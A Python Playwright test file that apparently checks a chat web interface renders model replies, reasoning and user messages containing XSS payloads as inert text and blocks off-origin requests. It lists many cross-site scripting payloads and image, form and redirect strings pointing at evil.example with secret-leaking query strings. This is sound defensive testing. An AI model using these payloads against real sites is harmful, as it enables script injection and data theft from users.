"""Model output is untrusted: reliability cases 19 and 20 in the page.

Every payload streams through the real server, in the reasoning and in the answer, whole and
split into chunks at every awkward place. Nothing may run, live or once the reply is complete,
no request may leave for another origin, and no javascript:/data: link may reach the DOM.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from r1serve.engine.fake import FakeReply
from support import history
from support.browser import ChatPage, UiServer

pytestmark = pytest.mark.browser

# Each payload would set window.__pwned, open a dialog or make an off-origin request if it ran.
PAYLOADS = [
    "<script>window.__pwned = 'script'; alert('script')</script>",
    "<img src=x onerror=\"window.__pwned = 'img'; alert('img')\">",
    "<svg onload=\"window.__pwned = 'svg'; alert('svg')\"><circle r=\"4\"/></svg>",
    "<iframe srcdoc=\"<script>parent.__pwned = 'iframe'; parent.alert(1)</script>\"></iframe>",
    "[click me](javascript:window.__pwned='link';alert('link'))",
    "[spaced](  javascript:alert('spaced')  )",
    "[entity](jav&#x61;script:alert('entity'))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[data html](data:text/html,<script>alert('data')</script>)",
    "<javascript:alert('autolink')>",
    "[reference][evil]\n\n[evil]: javascript:alert('reference')",
    "![pixel](javascript:alert('image'))",
    "![tracker](https://evil.example/pixel.png?q=secret)",
    "![](//evil.example/protocol-relative.png)",
    "<a href=\"javascript:alert('raw')\">raw link</a>",
    "<a href=\"data:text/html,<script>alert('raw data')</script>\">raw data link</a>",
    '<img src="https://evil.example/raw.png?q=secret">',
    "<details open ontoggle=\"window.__pwned = 'details'\">x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "<object data=\"data:text/html,<script>alert('object')</script>\"></object>",
    "<form action=\"javascript:alert('form')\"><button>go</button></form>",
    "```html\n<script>window.__pwned = 'fenced'</script>\n```",
    "<a href='#' onclick=\"alert('click')\" style=\"position:fixed;inset:0\">cover</a>",
]
DOCUMENT = "\n\n".join(PAYLOADS)
REPLY = f"<think>\n{DOCUMENT}\n</think>\n\n{DOCUMENT}\n"


def chunked(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


CHUNKINGS = {
    "words": lambda: FakeReply(REPLY, delay_s=0.002),
    "every-character": lambda: FakeReply(chunks=chunked(REPLY, 1)),
    "five-characters": lambda: FakeReply(chunks=chunked(REPLY, 5), delay_s=0.002),
}


@pytest.mark.parametrize("chunking", list(CHUNKINGS))
def test_streamed_payloads_run_nothing(chat: ChatPage, chunking: str) -> None:
    chat.server.replies.set(CHUNKINGS[chunking]())
    chat.send("Show me some HTML")
    # One token per character is ~2,800 events: on a busy 2-core machine that takes a while.
    chat.wait_idle(timeout_ms=60_000)
    page = chat.page
    page.wait_for_timeout(300)  # give anything that was going to fire (onerror, onload) time

    chat.assert_nothing_unsafe_happened()  # covers every state seen while streaming
    assert chat.unsafe_now() == []  # and the finished reply
    hrefs = page.eval_on_selector_all(".messages [href]", "els => els.map(e => e.href)")
    assert not [h for h in hrefs if h.split(":")[0].lower() not in ("http", "https", "mailto")]
    # What the model wrote as HTML is shown as text, so the reader still sees it.
    answer = page.locator(".message.assistant .answer")
    expect(answer).to_contain_text("<script>window.__pwned = 'script'")
    expect(answer.locator("pre code.language-html")).to_contain_text("<script>")
    expect(answer.locator("img.blocked-image[alt=tracker]")).to_have_attribute(
        "title", "Image from another site not loaded: https://evil.example/pixel.png?q=secret"
    )
    thinking = page.locator(".message.assistant .thinking-body")
    expect(thinking).to_contain_text("<iframe srcdoc=")


RAW_HTML = [
    "<script>window.__pwned = 'script'</script>",
    "<img src=x onerror=\"window.__pwned = 'img'\">",
    "<svg><script>window.__pwned = 'svg-script'</script></svg>",
    "<svg onload=\"window.__pwned = 'svg'\"></svg>",
    "<iframe srcdoc=\"<script>parent.__pwned = 'iframe'</script>\"></iframe>",
    "<a href=\"javascript:window.__pwned = 'link'\">x</a>",
    "<a href=\"  JaVaScRiPt:window.__pwned = 'case'\">x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="https://evil.example/leak.png?q=secret">',
    '<img src="//evil.example/leak.png">',
    '<img srcset="https://evil.example/a.png 2x">',
    '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>',
    '<div style="background:url(https://evil.example/bg.png)">styled</div>',
    "<style>body{background:url(https://evil.example/css.png)}</style>",
    '<form action="https://evil.example/"><input name=q><button>send</button></form>',
    "<math><mi xlink:href=\"javascript:window.__pwned = 'math'\">m</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='mxss'>\">",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]


def test_sanitizer_alone_neutralizes_raw_html(open_chat: Callable[..., ChatPage]) -> None:
    # The page shows the model's HTML as text, so the sanitizer rarely sees raw tags from it;
    # here it gets them directly, as it would if raw HTML rendering were ever turned on.
    chat = open_chat()
    page = chat.page
    sanitized = page.evaluate(
        """async (payloads) => {
            const { sanitize } = await import("/static/markdown.js");
            const holder = document.querySelector(".messages");
            const out = [];
            for (const html of payloads) {
                const box = document.createElement("div");
                box.append(sanitize(html));
                holder.append(box);
                out.push(box.innerHTML);
            }
            return out;
        }""",
        RAW_HTML,
    )
    page.wait_for_timeout(300)
    chat.assert_nothing_unsafe_happened(csp_reports_expected=True)
    assert chat.unsafe_now() == []
    for html, clean in zip(RAW_HTML, sanitized, strict=True):
        lowered = clean.lower()
        for banned in ("<script", "<iframe", "<svg", "<math", "<style", "<form", "<base", "<meta"):
            assert banned not in lowered, (html, clean)
        assert "javascript:" not in lowered, (html, clean)


def test_payloads_typed_by_the_user_are_shown_as_text(chat: ChatPage) -> None:
    # Case 20: the same payloads in the user's own message, which also makes the title.
    chat.server.replies.set(FakeReply("ok"))
    chat.page.locator(".composer-input").fill(DOCUMENT)
    chat.page.locator(".composer-input").press("Enter")
    chat.wait_idle()
    chat.page.wait_for_timeout(300)
    expect(chat.page.locator(".message.user .user-text")).to_have_text(DOCUMENT)
    assert chat.page.locator(".message.user .user-text *").count() == 0
    assert chat.requests_to("POST", "/messages")[0][3]["content"] == DOCUMENT
    title = chat.page.locator(".conversation-item .conversation-title")
    expect(title).to_contain_text("<script>window.__pwned")
    assert title.locator("*").count() == 0


TITLE_PAYLOAD = (
    "<img src=x onerror=\"window.__pwned = 'title'\"><script>window.__pwned = 'title2'</script>"
    "![](https://evil.example/?q=secret)"
)


def test_stored_payloads_run_nothing_after_reload(
    ui_server: UiServer, open_chat: Callable[..., ChatPage]
) -> None:
    # Cases 19 and 20 once more, read back from the database: a payload title, payload user
    # text, a payload reply with payload reasoning, and a title made from a payload message.
    named = history.create(ui_server, title=TITLE_PAYLOAD)
    ui_server.replies.set(FakeReply(REPLY))
    history.send(ui_server, named["id"], DOCUMENT)
    untitled = history.create(ui_server)
    ui_server.replies.set(FakeReply("ok"))
    history.send(ui_server, untitled["id"], "<svg onload=\"window.__pwned = 'auto'\">hi</svg>")

    chat = open_chat(f"/#/c/{named['id']}")
    page = chat.page
    answer = page.locator(".message.assistant .answer")
    expect(answer).to_contain_text("<script>window.__pwned = 'script'")
    expect(page.locator(".message.user .user-text")).to_have_text(DOCUMENT)
    expect(page.locator(".conversation-heading")).to_have_text(TITLE_PAYLOAD)
    titles = page.locator(".conversation-item .conversation-title")
    expect(titles).to_have_text(["<svg onload=\"window.__pwned = 'auto'\">hi</svg>", TITLE_PAYLOAD])
    expect(answer.locator("img.blocked-image[alt=tracker]")).to_have_count(1)
    page.locator(".thinking summary").click()
    expect(page.locator(".thinking-body")).to_contain_text("<iframe srcdoc=")
    page.wait_for_timeout(300)

    chat.assert_nothing_unsafe_happened()
    assert chat.unsafe_now() == []
    assert page.locator(".conversation-title *, .conversation-heading *, .user-text *").count() == 0
